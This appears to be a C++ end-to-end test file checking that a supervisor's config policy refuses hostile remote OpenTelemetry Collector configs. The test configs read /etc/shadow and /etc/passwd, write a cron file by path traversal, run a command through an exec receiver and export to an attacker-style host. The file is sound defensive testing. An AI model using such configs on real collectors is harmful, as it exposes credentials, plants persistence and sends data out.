// The config_policy module enforcing the operator's policy on remote configs (issue 13),
// end to end: tools/opamp-server pushes configs through the remote_config module, the real
// Collector runs what passes. A refused config is FAILED with every violation named and the
// running Collector keeps its config; the operator's local files only get a warning.
#include <gtest/gtest.h>

#include <boost/json/serialize.hpp>
#include <boost/json/value.hpp>
#include <csignal>

#include "e2e_support.hpp"
#include "supervisor_fixture.hpp"
#include "support/collector.hpp"
#include "support/ports.hpp"

namespace opsup::testing {
namespace {

using namespace std::chrono_literals;
constexpr auto kDeadline = 60s;

constexpr const char *kPolicy =
    "plugins:\n  config_policy:\n    access_dirs:\n      read:\n        allow: [/var/log]\n"
    "      write:\n        allow: [/var/lib/otelcol-data]\n"
    "    components:\n      receivers:\n        deny: [exec]\n"
    "    endpoints:\n      allowed_hosts: [127.0.0.1, localhost]\n";

class ConfigPolicyE2e : public ::testing::Test {
 protected:
  TempDir dir_;
  TempDir modules_;
  OpampServerProcess server_;
  std::unique_ptr<ChildProcess> supervisor_;
  std::string uid_;
  std::string policy_extra_;  // more lines of plugins.config_policy

  void SetUp() override {
    for (const char *module : {"remote_config.so", "health.so", "config_policy.so"}) {
      std::filesystem::copy_file(std::filesystem::path(OPSUP_MODULES_DIR) / module,
                                 modules_.path() / module);
    }
  }

  void start(const std::string &agent_yaml = "") {
    supervisor_ = start_supervisor(
        {.endpoint = server_.websocket_url(),
         .storage = dir_.path() / "storage",
         .modules_dir = modules_.path(),
         .extra_yaml = std::string("capabilities:\n  accepts_remote_config: true\n") + kPolicy +
                       policy_extra_,
         .collector = collector_executable(CollectorKind::kReal),
         .agent_yaml = agent_yaml},
        dir_.path());
    uid_ = wait_for_connected_agent(server_, kDeadline);
    ASSERT_FALSE(uid_.empty()) << supervisor_->output();
  }

  std::string push(const std::string &yaml) { return push_remote_config(server_, uid_, yaml); }

  // The error message once the server has `status` for `hash`.
  std::string wait_status(const std::string &status, const std::string &hash) {
    const auto agent = wait_for_remote_config_status(server_, uid_, status, hash, kDeadline);
    EXPECT_TRUE(agent) << "no " << status << " for " << hash << "\n" << supervisor_->output();
    return agent ? string_at(*agent, {"remote_config_status", "error_message"}) : std::string();
  }

  std::string effective() { return read_file(dir_.path() / "storage" / "effective.yaml"); }
};

TEST_F(ConfigPolicyE2e, AConfigReadingEtcShadowIsFailedAndTheOldConfigKeepsRunning) {
  start();
  const uint16_t port = free_tcp_port();
  wait_status("APPLIED", push(pipeline_yaml(port)));
  const std::string before = effective();

  const std::string shadow = push(
      "receivers:\n  filelog:\n    include: [/etc/shadow]\nexporters:\n  debug: {}\n"
      "service:\n  pipelines:\n    logs:\n      receivers: [filelog]\n      exporters: [debug]\n");
  const std::string message = wait_status("FAILED", shadow);
  EXPECT_NE(message.find("/etc/shadow"), std::string::npos) << message;
  EXPECT_NE(message.find("receivers/filelog"), std::string::npos) << message;
  EXPECT_EQ(effective(), before);
  // The old config still runs: its data still comes out.
  EXPECT_TRUE(eventually(
      [&] {
        return send_span(port, "still-running") &&
               read_file(dir_.path() / "storage" / "agent.log").find("still-running") !=
                   std::string::npos;
      },
      kDeadline));
  supervisor_->send_signal(SIGTERM);
  EXPECT_EQ(supervisor_->wait_exit(kDeadline), 0);
}

TEST_F(ConfigPolicyE2e, AConfigWritingOutsideTheAllowedDirectoriesIsFailed) {
  start();
  const uint16_t port = free_tcp_port();
  wait_status("APPLIED", push(pipeline_yaml(port)));
  const std::string before = effective();
  const std::string writer = push(
      "receivers:\n  otlp:\n    protocols:\n      http:\n        endpoint: 127.0.0.1:" +
      std::to_string(port) +
      "\nexporters:\n  file:\n    path: /var/lib/otelcol-data/../../../etc/cron.d/evil\n"
      "service:\n  pipelines:\n    traces:\n      receivers: [otlp]\n      exporters: [file]\n");
  const std::string message = wait_status("FAILED", writer);
  EXPECT_NE(message.find("exporters/file"), std::string::npos) << message;
  EXPECT_NE(message.find("/etc/cron.d/evil"), std::string::npos) << message;
  EXPECT_EQ(effective(), before);
  supervisor_->send_signal(SIGTERM);
  EXPECT_EQ(supervisor_->wait_exit(kDeadline), 0);
}

TEST_F(ConfigPolicyE2e, AConfigBreakingThreeRulesListsAllThree) {
  start();
  const std::string bad = push(
      "receivers:\n  filelog:\n    include: [/etc/passwd]\n  exec:\n    command: id\n"
      "exporters:\n  otlphttp:\n    endpoint: https://collector.evil.example.com:4318\n"
      "service:\n  pipelines:\n    logs:\n      receivers: [filelog, exec]\n"
      "      exporters: [otlphttp]\n");
  const std::string message = wait_status("FAILED", bad);
  EXPECT_NE(message.find("/etc/passwd"), std::string::npos) << message;
  EXPECT_NE(message.find("receivers/exec"), std::string::npos) << message;
  EXPECT_NE(message.find("collector.evil.example.com"), std::string::npos) << message;
  supervisor_->send_signal(SIGTERM);
  EXPECT_EQ(supervisor_->wait_exit(kDeadline), 0);
}

TEST_F(ConfigPolicyE2e, SanitiseModeRemovesTheOffendingReceiverAndAppliesTheRest) {
  policy_extra_ = "    mode: sanitise\n";
  start();
  const uint16_t port = free_tcp_port();
  const std::string mixed = push(
      "receivers:\n  filelog:\n    include: [/etc/shadow]\n  otlp:\n    protocols:\n"
      "      http:\n        endpoint: 127.0.0.1:" +
      std::to_string(port) +
      "\nexporters:\n  debug:\n    verbosity: detailed\nservice:\n  telemetry:\n    metrics:\n"
      "      level: none\n  pipelines:\n    logs:\n      receivers: [filelog]\n"
      "      exporters: [debug]\n    traces:\n      receivers: [otlp]\n      exporters: [debug]\n");
  const std::string message = wait_status("APPLIED", mixed);
  EXPECT_NE(message.find("removed receivers/filelog"), std::string::npos) << message;
  EXPECT_EQ(effective().find("filelog"), std::string::npos) << effective();
  EXPECT_TRUE(eventually(
      [&] {
        return send_span(port, "sanitised-span") &&
               read_file(dir_.path() / "storage" / "agent.log").find("sanitised-span") !=
                   std::string::npos;
      },
      kDeadline));
  supervisor_->send_signal(SIGTERM);
  EXPECT_EQ(supervisor_->wait_exit(kDeadline), 0);
}

TEST_F(ConfigPolicyE2e, TheOperatorsLocalConfigIsOnlyWarnedAbout) {
  const auto local = dir_.write_file(
      "local.yaml",
      "receivers:\n  filelog:\n    include: [/etc/hostname]\nexporters:\n  debug: {}\n"
      "service:\n  telemetry:\n    metrics:\n      level: none\n  pipelines:\n    logs:\n"
      "      receivers: [filelog]\n      exporters: [debug]\n");
  start("  config_files:\n    - " + local.string() + "\n");
  EXPECT_TRUE(supervisor_->wait_for_line("local files are trusted, so the Collector runs it anyway",
                                         kDeadline))
      << supervisor_->output();
  EXPECT_TRUE(supervisor_->wait_for_line("Collector started \\(pid", kDeadline));
  EXPECT_NE(effective().find("/etc/hostname"), std::string::npos);
  supervisor_->send_signal(SIGTERM);
  EXPECT_EQ(supervisor_->wait_exit(kDeadline), 0);
}

}  // namespace
}  // namespace opsup::testing
